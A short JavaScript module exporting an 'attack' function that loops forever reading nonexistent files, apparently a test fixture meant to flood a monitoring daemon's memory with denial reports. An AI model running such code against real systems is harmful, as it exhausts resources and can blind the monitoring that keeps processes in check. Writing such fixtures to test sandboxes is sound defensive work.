// Is refused without end, each time something else, to fill the daemon's memory with reports.
const fs = require('fs');
exports.attack = () => {
  for (let number = 0; ; number++) {
    try {
      fs.readFileSync(`/nowhere/${number}`);
    } catch {
      // Held.
    }
  }
};
